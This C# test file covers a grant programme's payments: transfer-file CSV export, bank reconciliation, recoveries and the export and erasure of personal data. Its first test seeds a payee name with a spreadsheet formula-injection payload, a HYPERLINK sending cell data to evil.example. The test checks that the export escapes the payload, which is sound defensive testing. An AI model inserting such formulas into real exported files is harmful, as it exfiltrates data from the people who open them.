using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Amuddu.Web.Features.Applications;
using Amuddu.Web.Features.Payments;
using Amuddu.Web.Features.Programmes;
using Amuddu.Web.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Amuddu.Web.Tests.Support.Payments;

public class TransferAndReconcileTests
{
    [Fact]
    public async Task A_payee_name_typed_as_a_formula_is_written_as_text_in_the_transfer_file()
    {
        await using var app = await AmudduApp.StartAsync();
        var (_, personId) = await app.RegisterSomeoneAsync("Awa", "Sow", "SN");
        var officer = await app.ApiClientAsync(Demo.Officer, "en");
        var programme = await app.SeedProgrammeAsync();
        var mobile = app.Protector().ProtectText("+212612345678");
        var application = await app.SeedApprovedAsync(programme, personId, a =>
        {
            a.PayeeName = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")";
            a.PayeeChannel = PaymentChannel.MobileMoney;
            a.PayeeAccountCipher = mobile;
            a.StartsOn = app.Today.AddMonths(-2);
        });
        var tranches = await officer.ContractAsync(application);
        var order = await officer.OrderedAsync(tranches[0].Id(), "k1");

        var response = await officer.PostAsync("/api/v1/payments/export", null);
        var bytes = await response.Content.ReadAsByteArrayAsync();

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        var lines = System.Text.Encoding.UTF8.GetString(bytes[3..]).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.StartsWith($"{order.Str("reference")};\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click\"\")\";MobileMoney;212612345678;", lines[1], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Export_writes_the_transfer_file_marks_the_orders_sent_and_downloads_again()
    {
        await using var app = await AmudduApp.StartAsync();
        var (_, personId) = await app.RegisterSomeoneAsync("Awa", "Sow", "SN");
        var officer = await app.ApiClientAsync(Demo.Officer, "en");
        var programme = await app.SeedProgrammeAsync();
        var application = await app.SeedApprovedAsync(programme, personId, a => { a.ApprovedCentimes = 5_000_01; a.StartsOn = app.Today.AddMonths(-2); });
        var tranches = await officer.ContractAsync(application);
        var order = await officer.OrderedAsync(tranches[0].Id(), "k1");

        var response = await officer.PostAsync("/api/v1/payments/export", null);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        var batch = $"VIR-{app.Today:yyyyMMdd}-1";
        Assert.Equal($"{batch}.csv", response.Content.Headers.ContentDisposition!.FileNameStar ?? response.Content.Headers.ContentDisposition.FileName);
        var csv = await response.Content.ReadAsStringAsync();
        var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("reference;payee;channel;account;amount;currency;label", lines[0]);
        Assert.Equal($"{order.Str("reference")};\"Coopérative Awa; Sow\";BankTransfer;{PaymentsSetup.Rib};2500.00;MAD;{programme.Code} {application.Reference} T1", lines[1]);
        Assert.Equal(2, lines.Length);

        var stored = await app.QueryAsync(db => db.PaymentOrders.AsNoTracking().SingleAsync());
        Assert.Equal(PaymentStatus.Exported, stored.Status);
        Assert.Equal(batch, stored.ExportBatch);
        var audit = Assert.Single(await app.AuditAsync(ApplicationAudit.PaymentsExported));
        Assert.Equal($"batch {batch}: 1 orders", audit.Detail);

        // Nothing left to send; the batch can be fetched again; an exported order cannot be cancelled.
        Assert.Equal(HttpStatusCode.Conflict, (await officer.PostAsync("/api/v1/payments/export", null)).StatusCode);
        Assert.Equal(csv, await officer.GetStringAsync($"/api/v1/payments/batches/{batch}"));
        Assert.Equal(HttpStatusCode.NotFound, (await officer.GetAsync("/api/v1/payments/batches/VIR-19990101-1")).StatusCode);
        Assert.Equal(HttpStatusCode.Conflict, (await officer.PostAsJsonAsync($"/api/v1/payments/{order.Id()}/cancel", new { reason = "x", version = stored.Version })).StatusCode);

        // The next file of the day is numbered on.
        var attendance = (await officer.TranchesAsync(application.Id))[1];
        var second = await app.ApiClientAsync(Demo.Officer2, "en");
        await second.PostAsJsonAsync($"/api/v1/applications/{application.Id}/tranches/{attendance.Id()}/confirm", new { version = attendance.GetProperty("version").GetInt64() });
        await officer.OrderedAsync(attendance.Id(), "k2");
        var secondFile = await officer.ExportAsync();
        Assert.Contains(";2500.01;MAD;", secondFile, StringComparison.Ordinal);
        Assert.Equal($"VIR-{app.Today:yyyyMMdd}-2", await app.QueryAsync(db => db.PaymentOrders.Where(o => o.TrancheId == attendance.Id()).Select(o => o.ExportBatch).SingleAsync()));
    }

    [Fact]
    public async Task Reconcile_pays_fails_lists_the_mismatches_and_never_pays_twice()
    {
        await using var app = await AmudduApp.StartAsync();
        var (_, personId) = await app.RegisterSomeoneAsync("Awa", "Sow", "SN");
        var officer = await app.ApiClientAsync(Demo.Officer, "en");
        var programme = await app.SeedProgrammeAsync(configure: p => p.Tranches = [new() { Number = 1, Condition = TrancheCondition.ContractSigned, Percent = 100 }]);
        var first = await app.SeedApprovedAsync(programme, personId);
        var second = await app.SeedApprovedAsync(programme, personId);
        var third = await app.SeedApprovedAsync(programme, personId);
        var paid = await officer.OrderedAsync((await officer.ContractAsync(first))[0].Id(), "k1");
        var rejected = await officer.OrderedAsync((await officer.ContractAsync(second))[0].Id(), "k2");
        await officer.ExportAsync();
        var waiting = await officer.OrderedAsync((await officer.ContractAsync(third))[0].Id(), "k3");
        var committed = await app.QueryAsync(db => db.Programmes.Where(p => p.Id == programme.Id).Select(p => p.CommittedCentimes).SingleAsync());
        var day = app.Today.ToString("yyyy-MM-dd");
        var file = string.Join("\n",
            "reference;amount;status;date;bankReference;reason",
            $"{paid.Str("reference")};5000.00;PAID;{day};BQ-778;",
            $"{rejected.Str("reference")};5000.00;REJECTED;{day};BQ-779;Compte clôturé",
            "PAY-UNKNOWN000;10.00;PAID;2026-01-01;X;",
            $"{waiting.Str("reference")};5000.00;PAID;{day};BQ-780;",
            $"{paid.Str("reference")};4999.99;PAID;{day};BQ-778;",
            "this is not a line",
            $"{rejected.Str("reference")};5000.00;PAID;{day};BQ-781;");

        var result = await officer.ReconcileAsync(file);

        Assert.Equal(1, result.GetProperty("paid").GetInt32());
        Assert.Equal(1, result.GetProperty("failed").GetInt32());
        var mismatches = result.GetProperty("mismatches").EnumerateArray().Select(m => (m.GetProperty("line").GetInt32(), m.Str("kind"))).ToList();
        Assert.Equal([(4, "UnknownReference"), (5, "NotExported"), (6, "AmountDiffers"), (7, "BadLine"), (8, "SettledDifferently")], mismatches);

        var orders = await app.QueryAsync(db => db.PaymentOrders.AsNoTracking().ToDictionaryAsync(o => o.Id));
        Assert.Equal(PaymentStatus.Paid, orders[paid.Id()].Status);
        Assert.Equal("BQ-778", orders[paid.Id()].BankReference);
        Assert.Equal(app.Today, orders[paid.Id()].SettledOn);
        Assert.Equal(PaymentStatus.Failed, orders[rejected.Id()].Status);
        Assert.Equal("Compte clôturé", orders[rejected.Id()].FailureReason);
        Assert.Null(orders[rejected.Id()].ActiveTrancheId);
        Assert.Equal(PaymentStatus.Ordered, orders[waiting.Id()].Status);
        // The only tranche paid: the grant is complete, and it used all its commitment.
        Assert.Equal(ApplicationStatus.Completed, await app.QueryAsync(db => db.Applications.Where(a => a.Id == first.Id).Select(a => a.Status).SingleAsync()));
        Assert.Equal(committed, await app.QueryAsync(db => db.Programmes.Where(p => p.Id == programme.Id).Select(p => p.CommittedCentimes).SingleAsync()));
        Assert.NotEmpty(await app.AuditAsync(ApplicationAudit.PaymentsReconciled));

        // The same file again changes nothing.
        var again = await officer.ReconcileAsync(file);
        Assert.Equal(0, again.GetProperty("paid").GetInt32());
        Assert.Equal(2, again.GetProperty("unchanged").GetInt32());
        Assert.Equal(1, await app.QueryAsync(db => db.PaymentOrders.CountAsync(o => o.Status == PaymentStatus.Paid)));

        // The failed tranche is due again: a new order under a new key.
        var tranche = (await officer.TranchesAsync(second.Id))[0];
        Assert.Equal("Due", tranche.Str("status"));
        Assert.Equal(HttpStatusCode.OK, (await officer.OrderAsync(tranche.Id(), "k2")).StatusCode);
        var renewed = await officer.OrderedAsync(tranche.Id(), "k2-retry");
        Assert.NotEqual(rejected.Id(), renewed.Id());
        Assert.Equal(2, (await officer.TranchesAsync(second.Id))[0].GetProperty("orders").GetArrayLength());

        var missing = await (await officer.PostAsync("/api/v1/payments/reconcile", new MultipartFormDataContent())).ProblemAsync(HttpStatusCode.BadRequest);
        Assert.True(missing.GetProperty("errors").TryGetProperty("file", out _));
    }

    [Fact]
    public async Task Paying_the_last_tranche_completes_the_grant_and_releases_what_cancelled_tranches_did_not_use()
    {
        await using var app = await AmudduApp.StartAsync();
        var (_, personId) = await app.RegisterSomeoneAsync("Awa", "Sow", "SN");
        var officer = await app.ApiClientAsync(Demo.Officer, "en");
        var programme = await app.SeedProgrammeAsync();
        var application = await app.SeedApprovedAsync(programme, personId);
        var tranches = await officer.ContractAsync(application);
        // The second tranche will not be paid (the training was shortened): cancelled straight in the database.
        await app.QueryAsync(db => db.Tranches.Where(t => t.Id == tranches[1].Id()).ExecuteUpdateAsync(s => s.SetProperty(t => t.Status, TrancheStatus.Cancelled)));
        var order = await officer.OrderedAsync(tranches[0].Id(), "k1");
        await officer.ExportAsync();
        var before = await app.QueryAsync(db => db.Programmes.Where(p => p.Id == programme.Id).Select(p => p.CommittedCentimes).SingleAsync());

        await officer.ReconcileAsync($"{order.Str("reference")};2500.00;PAID;{app.Today:yyyy-MM-dd};BQ-1;");

        Assert.Equal(ApplicationStatus.Completed, await app.QueryAsync(db => db.Applications.Where(a => a.Id == application.Id).Select(a => a.Status).SingleAsync()));
        Assert.Equal(before - 2_500_00, await app.QueryAsync(db => db.Programmes.Where(p => p.Id == programme.Id).Select(p => p.CommittedCentimes).SingleAsync()));
    }

    [Fact]
    public async Task Recoveries_are_at_most_what_was_paid_and_are_tracked_until_recovered_or_written_off()
    {
        await using var app = await AmudduApp.StartAsync();
        var (counsellor, personId) = await app.RegisterSomeoneAsync("Awa", "Sow", "SN", "en");
        var officer = await app.ApiClientAsync(Demo.Officer, "en");
        var programme = await app.SeedProgrammeAsync();
        var application = await app.SeedApprovedAsync(programme, personId);
        var order = await officer.OrderedAsync((await officer.ContractAsync(application))[0].Id(), "k1");
        await officer.ExportAsync();
        await officer.ReconcileAsync($"{order.Str("reference")};2500.00;PAID;{app.Today:yyyy-MM-dd};BQ-1;");
        var url = $"/api/v1/applications/{application.Id}/recoveries";

        foreach (var owed in new object?[] { -5m, 10.001m, 2500.01m, null, 0m })
        {
            var bad = await (await officer.PostAsJsonAsync(url, new { owed, reason = "Formation abandonnée" })).ProblemAsync(HttpStatusCode.BadRequest);
            Assert.True(bad.GetProperty("errors").TryGetProperty("owed", out _), $"owed {owed}");
        }

        var noReason = await (await officer.PostAsJsonAsync(url, new { owed = 100m })).ProblemAsync(HttpStatusCode.BadRequest);
        Assert.True(noReason.GetProperty("errors").TryGetProperty("reason", out _));
        Assert.Equal(HttpStatusCode.Forbidden, (await counsellor.PostAsJsonAsync(url, new { owed = 100m, reason = "x" })).StatusCode);

        var opened = await officer.PostAsJsonAsync(url, new { owed = 1500.50m, reason = "Formation abandonnée au 2e mois", dueOn = app.Today.AddMonths(2) });
        Assert.Equal(HttpStatusCode.Created, opened.StatusCode);
        var recovery = await opened.Content.ReadFromJsonAsync<JsonElement>(Http.Json);
        Assert.Equal(1500.50m, recovery.Dec("outstanding"));
        // What is left to claim is what was paid less what is already claimed.
        Assert.Equal(HttpStatusCode.BadRequest, (await officer.PostAsJsonAsync(url, new { owed = 1000m, reason = "x" })).StatusCode);

        var receipts = $"{url}/{recovery.Id()}/receipts";
        foreach (var amount in new object?[] { -1m, 0.001m, 1500.51m, null })
        {
            var bad = await (await officer.PostAsJsonAsync(receipts, new { amount, version = 1 })).ProblemAsync(HttpStatusCode.BadRequest);
            Assert.True(bad.GetProperty("errors").TryGetProperty("amount", out _), $"amount {amount}");
        }

        var part = await officer.PostAsJsonAsync(receipts, new { amount = 500.50m, version = 1 });
        Assert.Equal(HttpStatusCode.OK, part.StatusCode);
        Assert.Equal(HttpStatusCode.Conflict, (await officer.PostAsJsonAsync(receipts, new { amount = 100m, version = 1 })).StatusCode);
        var rest = await (await officer.PostAsJsonAsync(receipts, new { amount = 1000m, version = 2 })).Content.ReadFromJsonAsync<JsonElement>(Http.Json);
        Assert.Equal("Recovered", rest.Str("status"));
        Assert.Equal(0m, rest.Dec("outstanding"));

        var list = await counsellor.GetFromJsonAsync<List<JsonElement>>(url, Http.Json);
        Assert.Equal(1500.50m, Assert.Single(list!).Dec("recovered"));
        Assert.NotEmpty(await app.AuditAsync(ApplicationAudit.RecoveryOpened));
        Assert.Equal(2, (await app.AuditAsync(ApplicationAudit.RecoveryReceived)).Count);
        Assert.Equal(3, await app.QueryAsync(db => db.ApplicationEvents.CountAsync(e => e.ApplicationId == application.Id
            && (e.Kind == ApplicationEventKind.RecoveryOpened || e.Kind == ApplicationEventKind.RecoveryReceived))));

        var other = await (await officer.PostAsJsonAsync(url, new { owed = 999.50m, reason = "Trop-perçu" })).Content.ReadFromJsonAsync<JsonElement>(Http.Json);
        var writeOff = $"{url}/{other.Id()}/write-off";
        Assert.Equal(HttpStatusCode.BadRequest, (await officer.PostAsJsonAsync(writeOff, new { version = 1 })).StatusCode);
        var written = await (await officer.PostAsJsonAsync(writeOff, new { reason = "Personne partie sans adresse", version = 1 })).Content.ReadFromJsonAsync<JsonElement>(Http.Json);
        Assert.Equal("WrittenOff", written.Str("status"));
        Assert.Equal(HttpStatusCode.Conflict, (await officer.PostAsJsonAsync($"{url}/{other.Id()}/receipts", new { amount = 1m, version = 2 })).StatusCode);
        Assert.NotEmpty(await app.AuditAsync(PaymentsAudit.RecoveryWrittenOff));
    }

    [Fact]
    public async Task The_persons_payments_are_exported_with_the_account_and_erased_down_to_amounts_and_statuses()
    {
        await using var app = await AmudduApp.StartAsync();
        var (_, personId) = await app.RegisterSomeoneAsync("Awa", "Sow", "SN");
        var officer = await app.ApiClientAsync(Demo.Officer, "en");
        var programme = await app.SeedProgrammeAsync();
        var application = await app.SeedApprovedAsync(programme, personId);
        var order = await officer.OrderedAsync((await officer.ContractAsync(application))[0].Id(), "k1");
        await officer.PostAsJsonAsync($"/api/v1/payments/{order.Id()}/cancel", new { reason = "RIB erroné", version = 1 });
        await using var scope = app.Services.CreateAsyncScope();
        var section = scope.ServiceProvider.GetServices<Features.People.IPersonalDataSection>().OfType<Features.Applications.ApplicationsPersonalData>().Single();

        var export = JsonSerializer.Serialize(await section.ExportAsync(personId, CancellationToken.None));
        Assert.Contains(PaymentsSetup.Rib, export, StringComparison.Ordinal);
        Assert.Contains("RIB erron", export, StringComparison.Ordinal);

        await section.EraseAsync(personId, CancellationToken.None);
        var stored = await app.QueryAsync(db => db.PaymentOrders.AsNoTracking().SingleAsync());
        Assert.Equal("", stored.PayeeName);
        Assert.Equal("", stored.PayeeAccountCipher);
        Assert.Null(stored.CancelReason);
        Assert.Equal(PaymentStatus.Cancelled, stored.Status);
        Assert.Equal(2_500_00, stored.AmountCentimes);
        Assert.DoesNotContain(PaymentsSetup.Rib, JsonSerializer.Serialize(await section.ExportAsync(personId, CancellationToken.None)), StringComparison.Ordinal);
    }
}
